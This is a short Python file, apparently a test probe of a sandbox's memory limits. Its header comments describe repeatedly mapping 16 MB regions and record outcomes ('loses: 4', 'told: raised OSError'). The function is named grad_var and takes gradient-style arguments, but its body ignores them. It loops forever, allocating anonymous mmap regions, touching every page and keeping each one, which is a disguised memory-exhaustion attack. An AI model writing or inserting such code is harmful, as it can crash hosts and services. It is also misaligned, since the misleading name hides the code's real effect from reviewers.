# Maps 16 MB at a time, as private memory and, where that is let, as shared, and touches every page.
# loses: 4
# told: raised OSError
import mmap


def grad_var(dX_hat, X, mean, var, eps):
    kept = []
    while True:
        for flags in (mmap.MAP_SHARED, mmap.MAP_PRIVATE):
            try:
                area = mmap.mmap(-1, 1 << 24, flags=flags | mmap.MAP_ANONYMOUS)
            except PermissionError:
                continue
            area[::4096] = b"x" * (len(area) // 4096)
            kept.append(area)
